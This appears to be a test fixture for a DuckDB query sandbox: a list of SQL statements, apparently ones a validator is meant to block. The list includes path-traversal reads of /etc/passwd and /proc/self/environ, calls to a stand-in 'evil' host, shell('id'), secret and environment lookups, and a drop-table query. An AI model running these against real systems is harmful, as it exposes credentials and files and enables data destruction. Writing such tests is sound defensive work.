from '/etc/passwd'
from '../x.csv'
from 'a/../../x.csv'
from 'a/up/../proc/self/environ'
from '.hidden.csv'
from 'a/.hidden/x.csv'
from './../x.csv'
from '~/x.csv'
from 'http://evil/x.csv'
from 'https://evil/x.parquet'
from 's3://bucket/x.parquet'
from 'file:///etc/passwd.csv'
from "/etc/passwd.csv"
from 'x.db'
from 'x.duckdb'
from 'x.xlsx'
from '/proc/self/environ'
from 'a//b.csv'
select * from read_text('/etc/passwd')
select * from read_text('x.csv')
select * from read_blob('x.csv')
select * from read_csv('/etc/passwd')
select * from read_csv('../x.csv')
select * from read_csv('x' || '.csv')
select * from read_csv((select 'x.csv'))
select * from read_csv(['a.csv', '../b.csv'])
select * from read_csv(['a.csv' || 'x'])
select * from read_csv(path) from t
select * from read_csv(concat('x', '.csv'))
select * from read_csv(array['/etc/passwd'])
select * from read_parquet('/x.parquet')
select * from read_parquet(getvariable('x'))
select * from parquet_scan('../x.parquet')
select * from parquet_metadata('x.parquet')
select * from parquet_schema('x.parquet')
select * from read_json('/x.json')
select * from read_ndjson_objects('/x.json')
select * from glob('*')
select * from glob('/*')
select * from sniff_csv('x.csv')
select getenv('HOME')
select * from sqlite_scan('x.db', 't')
select * from postgres_scan('host=evil', 'public', 't')
select * from mysql_scan('x', 'y', 'z')
select * from iceberg_scan('x')
select * from delta_scan('x')
select * from st_read('x')
select * from read_xlsx('x.xlsx')
select * from query('drop table t')
select * from query_table('t')
select * from duckdb_settings()
select * from duckdb_secrets()
select * from duckdb_extensions()
select * from pragma_database_list()
select current_setting('home_directory')
select write_log('x')
select nextval('s')
select setseed(0.5)
select force_checkpoint()
select * from which_secret('x', 'y')
select error('x')
select add_parquet_key('a', 'b')
select http_get('http://evil')
select shell('id')
copy t to 'out.csv'
copy (select 1) to '/tmp/out.csv'
copy t from '/etc/passwd'
attach 'x.db'
attach ':memory:' as m
detach m
install httpfs
load httpfs
force install httpfs from 'http://evil'
pragma enable_profiling
pragma database_list
set memory_limit = '100GB'
reset lock_configuration
export database '/tmp/x'
import database '/tmp/x'
checkpoint
vacuum
create macro f() as 1
create secret s (type s3)
summarize t
describe select 1
show all tables
call pragma_version()
prepare p as select 1
from t select 1; copy t to 'x'
from ".hidden/x".csv
from "/etc/x".csv
from ".."."x"."csv"
from '?hidden/x.csv'
from '[.]hidden/x.csv'
select * from read_csv(['a.csv'] || ['.hidden/x.csv'])
select * from read_csv(['a.csv'][1])
select * from read_csv(['a.csv']::varchar)
